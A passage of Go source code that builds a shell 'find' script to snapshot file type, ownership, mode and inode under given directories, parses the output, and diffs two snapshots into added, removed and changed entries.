// sudo: each sudo costs a PAM session, half a second on an emulated guest).
func SnapshotScript(roots map[string]int) string {
	var keys []string
	for k := range roots {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var b strings.Builder
	b.WriteString("{ ")
	for _, k := range keys {
		fmt.Fprintf(&b, "find %s -maxdepth %d -printf '%%p\\t%%y\\t%%U:%%G\\t%%m\\t%%i\\n' 2>/dev/null; ", bashq(k), roots[k])
	}
	b.WriteString("} | LC_ALL=C sort")
	return b.String()
}

// Snapshot is SnapshotScript's output: path -> "type owner:group mode inode".
type Snapshot map[string]string

// ParseSnapshot reads SnapshotScript's output; lines for which skip is true are left out.
func ParseSnapshot(out string, skip func(path string) bool) Snapshot {
	s := Snapshot{}
	for _, l := range strings.Split(out, "\n") {
		f := strings.SplitN(l, "\t", 2)
		if len(f) != 2 || (skip != nil && skip(f[0])) {
			continue
		}
		s[f[0]] = strings.ReplaceAll(f[1], "\t", " ")
	}
	return s
}

// Diff lists what changed from a to b, one line per path, sorted.
func Diff(a, b Snapshot) []string {
	var d []string
	for p, v := range a {
		if w, ok := b[p]; !ok {
			d = append(d, "removed "+p+" ("+v+")")
		} else if w != v {
			d = append(d, "changed "+p+" ("+v+" -> "+w+")")
		}
	}
	for p, w := range b {
		if _, ok := a[p]; !ok {
			d = append(d, "added "+p+" ("+w+")")
		}
	}
	sort.Strings(d)
	return d
}
